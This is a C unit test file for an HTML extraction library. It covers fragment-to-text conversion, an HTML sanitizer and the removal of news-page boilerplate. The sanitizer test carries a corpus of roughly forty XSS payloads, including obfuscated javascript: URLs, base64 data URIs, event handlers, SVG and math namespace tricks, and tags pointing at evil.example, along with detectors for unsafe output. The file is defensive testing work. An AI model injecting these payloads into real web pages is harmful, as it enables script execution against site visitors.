/* test_extract.c — fragment text, the sanitizer (with an XSS corpus), plain-text documents. */
#include "t.h"
#include "extract/extract.h"
#include "util/util.h"

#include <stdbool.h>

static char *frag(const char *s)
{
	return extract_fragment_text(s, strlen(s));
}

static char *san(const char *s)
{
	return extract_sanitize_fragment(s, strlen(s), "https://news.example/section/page.html");
}

static void fragment_text_blocks_and_entities(void)
{
	char *t = frag("<p>Caf&eacute; &amp; bar&nbsp;&#8212; <b>now</b></p><p>Second\n   para</p>");
	T_STREQ(t, "Caf\xc3\xa9 & bar \xe2\x80\x94 now\n\nSecond para");
	free(t);
	t = frag("<h2>Head</h2>line one<br>line two<ul><li>a</li><li>b</li></ul>");
	T_STREQ(t, "Head\n\nline one\nline two\n\na\nb");
	free(t);
	t = frag("<script>var x = 1;</script><style>p{}</style>Only <i>this</i>");
	T_STREQ(t, "Only this");
	free(t);
}

static void fragment_text_plain_and_empty(void)
{
	char *t = frag("Just text & more   text");
	T_STREQ(t, "Just text & more text");
	free(t);
	t = extract_fragment_text(NULL, 0);
	T_STREQ(t, "");
	free(t);
	t = frag("<div><p>unclosed <b>bold <i>both");
	T_STREQ(t, "unclosed bold both");
	free(t);
}

/* Everything here must come out with no way to run script. */
static const char *const xss[] = {
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<img src=x onerror=alert(1)>",
	"<img src=\"javascript:alert(1)\">",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<a href=\"JaVaScRiPt:alert(1)\">x</a>",
	"<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
	"<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
	"<a href=\" &#14; javascript:alert(1)\">x</a>",
	"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
	"<a href=\"vbscript:msgbox(1)\">x</a>",
	"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
	"<img src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">",
	"<svg onload=alert(1)><script>alert(1)</script></svg>",
	"<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
	"<math><mtext><script>alert(1)</script></mtext></math>",
	"<iframe src=\"https://evil.example\"></iframe>",
	"<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
	"<form action=\"https://evil.example\"><input name=x><button>go</button></form>",
	"<div style=\"width: expression(alert(1))\">x</div>",
	"<p style=\"background:url(javascript:alert(1))\">x</p>",
	"<style>body{background:url(javascript:alert(1))}</style>",
	"<body onload=alert(1)>x",
	"<p onclick=\"alert(1)\" onmouseover='alert(2)'>x</p>",
	"<<script>script>alert(1)<</script>/script>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<a href=\"x\" <script>alert(1)</script>",
	"<img src=\"x\" alt=\"\"\"><script>alert(1)</script>\">",
	"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
	"<base href=\"javascript:alert(1)//\">",
	"<link rel=stylesheet href=\"javascript:alert(1)\">",
	"<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
	"<template><script>alert(1)</script></template>",
	"<a href=\"java\0script:alert(1)\">x</a>",
	"<!--<img src=x onerror=alert(1)>-->",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<video><source onerror=\"alert(1)\"></video>",
	"<details open ontoggle=alert(1)>x</details>",
	"<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
	"<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
	"<a href=\"java&Tab;script:alert(1)\">x</a>",
};

/* Every URL attribute in sanitized output (with a base URL given) must be absolute with a
 * safe scheme; no live dangerous tag; no event-handler or style attribute. */
static bool url_attrs_safe(const char *h)
{
	static const char *const names[] = {"href=\"", "src=\"", "cite=\""};
	for (size_t i = 0; i < 3; i++)
		for (const char *p = strstr(h, names[i]); p; p = strstr(p + 1, names[i])) {
			const char *v = p + strlen(names[i]);
			if (!str_startswith(v, "https://") && !str_startswith(v, "http://") &&
			    !str_startswith(v, "mailto:") && !str_startswith(v, "#") &&
			    !str_startswith(v, "data:image/png;"))
				return false;
		}
	return true;
}

static bool live_tag(const char *h, const char *name)
{
	char pat[32];
	snprintf(pat, sizeof pat, "<%s", name);
	return str_casestr(h, pat) != NULL;
}

static bool handler_attr(const char *h)
{
	for (const char *p = h; (p = strchr(p, '<')) != NULL; p++) {
		const char *e = strchr(p, '>');
		if (!e)
			return false;
		for (const char *q = p; q + 3 < e; q++)
			if (*q == ' ' && ((ascii_tolower(q[1]) == 'o' && ascii_tolower(q[2]) == 'n') ||
					  !str_ncasecmp(q + 1, "style", 5)))
				return true;
	}
	return false;
}

static void sanitizer_blocks_xss_corpus(void)
{
	static const char *const tags[] = {"script", "iframe", "svg", "style", "object", "embed",
					   "form", "input", "meta", "base", "link", "math",
					   "template", "!--", "button", "source", "video"};
	/* the detectors themselves must see what they look for */
	T_CHECK(!url_attrs_safe("<a href=\"javascript:x\">") && url_attrs_safe("<a href=\"#x\">"));
	T_CHECK(handler_attr("<img src=\"a\" onerror=x>") && !handler_attr("<p>one</p>"));
	T_CHECK(live_tag("<SCRIPT>", "script"));
	for (size_t i = 0; i < sizeof xss / sizeof xss[0]; i++) {
		char *h = san(xss[i]);
		bool bad = !url_attrs_safe(h) || handler_attr(h);
		for (size_t j = 0; j < sizeof tags / sizeof tags[0]; j++)
			bad = bad || live_tag(h, tags[j]);
		if (bad)
			printf("  payload %zu: %s\n  output: %s\n", i, xss[i], h);
		T_CHECK(!bad);
		free(h);
	}
}

static void sanitizer_keeps_and_resolves(void)
{
	char *h = san("<p>See <a href=\"../other.html\" class=x>this</a> and "
		      "<img src=\"/i.png\" alt=\"A &amp; B\" onload=x></p>");
	T_STREQ(h, "<p>See <a href=\"https://news.example/other.html\" rel=\"noopener noreferrer\">"
		   "this</a> and <img src=\"https://news.example/i.png\" alt=\"A &amp; B\"></p>\n");
	free(h);
	h = san("<img src=\"data:image/png;base64,iVBORw0KGgo=\">");
	T_CHECK(strstr(h, "src=\"data:image/png;base64,") != NULL || strstr(h, "<img") == NULL);
	free(h);
	h = san("<blockquote><p>q</p></blockquote><pre>a\n  b</pre><table><tr><td colspan=2 "
		"onclick=x>c</td></tr></table>");
	T_CHECK(strstr(h, "<blockquote><p>q</p>") != NULL);
	T_CHECK(strstr(h, "<pre>a\n  b</pre>") != NULL);
	T_CHECK(strstr(h, "<td colspan=\"2\">c</td>") != NULL);
	free(h);
	h = san("<a href=\"mailto:a@b.example\">m</a><a href=\"#top\">t</a>");
	T_CHECK(strstr(h, "href=\"mailto:a@b.example\"") != NULL);
	T_CHECK(strstr(h, "href=\"#top\"") != NULL);
	free(h);
}

static void sanitizer_lazy_images_and_text_escaping(void)
{
	char *h = san("<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" "
		      "data-src=\"https://cdn.example/real.jpg\">");
	T_STREQ(h, "<img src=\"https://cdn.example/real.jpg\">");
	free(h);
	h = san("<p>1 &lt; 2 &amp;&amp; \"q\"</p>");
	T_STREQ(h, "<p>1 &lt; 2 &amp;&amp; \"q\"</p>\n");
	free(h);
	h = san("<img src=\"javascript:alert(1)\"><p>x</p>");
	T_STREQ(h, "<p>x</p>\n");
	free(h);
}

static void deep_nesting_is_fine(void)
{
	size_t n = 100000;
	char *s = xmalloc(n * 5 + 16);
	size_t p = 0;
	for (size_t i = 0; i < n; i++) {
		memcpy(s + p, "<div>", 5);
		p += 5;
	}
	memcpy(s + p, "deep", 4);
	p += 4;
	char *t = extract_fragment_text(s, p);
	char *h = extract_sanitize_fragment(s, p, NULL);
	T_CHECK(t != NULL && h != NULL);
	free(t);
	free(h);
	free(s);
}

/* ---- plain-text documents --------------------------------------------------------------- */

static void text_doc(const char *s, struct extract_result *r)
{
	char *err = NULL;
	T_CHECK(extract_text(s, strlen(s), r, &err) == 0);
	free(err);
}

static const char *para1 = "The council voted on Tuesday to approve the new budget, which "
			   "raises spending on schools and roads by a tenth over last year.";
static const char *para2 = "Opponents said the plan would force a tax rise next spring, "
			   "and they promised to put the question to the voters in a referendum.";

static void text_title_date_byline(void)
{
	char doc[2048];
	snprintf(doc, sizeof doc,
		 "Get all your news in one place.\n100's of premium titles.\nOne app.\n"
		 "Start reading\nLocal\n\nCouncil approves budget after a long night of debate\n\n"
		 "By Jane Roe\n3d ago\ndate 2023-04-05\n%s\n\n%s\n", para1, para2);
	struct extract_result r;
	text_doc(doc, &r);
	T_STREQ(r.title, "Council approves budget after a long night of debate");
	T_STREQ(r.byline, "Jane Roe");
	T_STREQ(r.date, "2023-04-05T00:00:00Z");
	char want[1024];
	snprintf(want, sizeof want, "%s\n\n%s", para1, para2);
	T_STREQ(r.text, want);
	T_CHECK(r.words > 40);
	extract_result_release(&r);
}

static void text_drops_boilerplate_tail(void)
{
	char doc[2048];
	snprintf(doc, sizeof doc,
		 "Budget passes\n\n%s\n\n%s\n\nSign up to read this article\nRead news from "
		 "100's of titles, curated specifically for you.\nComments / 4\n\nSomeone\n3d ago\n"
		 "I think the council is wrong about this and they should resign right away now.\n"
		 "Reply\n2\n",
		 para1, para2);
	struct extract_result r;
	text_doc(doc, &r);
	T_CHECK(strstr(r.text, "referendum.") != NULL);
	T_CHECK(strstr(r.text, "Sign up") == NULL);
	T_CHECK(strstr(r.text, "resign") == NULL);
	T_CHECK(strstr(r.text, "Reply") == NULL);
	extract_result_release(&r);
}

static void text_drops_cards_and_credits(void)
{
	char doc[3072];
	snprintf(doc, sizeof doc,
		 "Council approves budget after a long night\n\n%s\n\n"
		 "Jane Doe/AP The council chamber on Tuesday.\n\n"
		 "Mayor in row over parking fees\nThe mayor has been criticised over plans to "
		 "double parking fees in the centre of the town from next month.\nArticle image\n\n"
		 "Next steps\n\n%s\n\nShare this article\n\nNext Post\n\nAnother story entirely "
		 "about something else that happened in a different town last week.\n",
		 para1, para2);
	struct extract_result r;
	text_doc(doc, &r);
	char want[1024];
	snprintf(want, sizeof want, "%s\n\nNext steps\n\n%s", para1, para2);
	T_STREQ(r.text, want);
	extract_result_release(&r);
}

static void text_seeds_lose_their_boilerplate(void)
{
	const char *dir = getenv("SHARED_SEEDS");
	if (!dir)
		dir = "../shared/seeds";
	static const char *const files[] = {"000_8be4905149dec6e1.txt", "001_938f52db505a44d5.txt",
					    "002_323cd50c165473e5.txt", "003_11d6647511fcba61.txt",
					    "004_3f0004297d112331.txt"};
	static const char *const gone[] = {"Sign up to read", "Comments /", "Reply", "Next Post",
					   "Show More", "Get all your news", "premium titles",
					   "One app", "Start reading", "Article image", "Getty",
					   "Maloletka/AP", "Our Standards", "Harvey Weinstein",
					   "3 min read", "Read more"};
	for (size_t i = 0; i < 5; i++) {
		char *path = xasprintf("%s/%s", dir, files[i]), *data;
		size_t len;
		if (file_read_all(path, 1 << 20, &data, &len) != 0) {
			free(path);
			T_SKIP("%s absent", dir);
		}
		struct extract_result r;
		text_doc(data, &r);
		T_CHECK(r.title && strlen(r.title) > 20);
		T_CHECK(r.words > 250);
		for (size_t j = 0; j < sizeof gone / sizeof gone[0]; j++)
			if (strstr(r.text, gone[j])) {
				printf("  %s keeps \"%s\"\n", files[i], gone[j]);
				T_CHECK(!"boilerplate kept");
			}
		if (i == 1)
			T_STREQ(r.date, "2022-12-30T00:00:00Z");
		extract_result_release(&r);
		free(data);
		free(path);
	}
}

/* Styled inline boxes a page lays out apart ("<span>Brand</span><span>Model</span>") are
 * two words; a drop cap or markup inside a word is not split. */
static void fragment_text_inline_box_edges(void)
{
	char *t = frag("<a><span class=\"brand\">HOKA</span><span class=\"name\">Clifton 10</span></a>");
	T_STREQ(t, "HOKA Clifton 10");
	free(t);
	t = frag("<p>$94.73<span>Save 21%</span></p>");
	T_STREQ(t, "$94.73 Save 21%");
	free(t);
	t = frag("<p><span class=\"dropcap\">T</span>he river <b>over</b>flowed; i<i>Phone</i></p>");
	T_STREQ(t, "The river overflowed; iPhone");
	free(t);
}

int main(void)
{
	T_RUN(fragment_text_blocks_and_entities);
	T_RUN(fragment_text_plain_and_empty);
	T_RUN(fragment_text_inline_box_edges);
	T_RUN(sanitizer_blocks_xss_corpus);
	T_RUN(sanitizer_keeps_and_resolves);
	T_RUN(sanitizer_lazy_images_and_text_escaping);
	T_RUN(deep_nesting_is_fine);
	T_RUN(text_title_date_byline);
	T_RUN(text_drops_boilerplate_tail);
	T_RUN(text_drops_cards_and_credits);
	T_RUN(text_seeds_lose_their_boilerplate);
	return t_done();
}
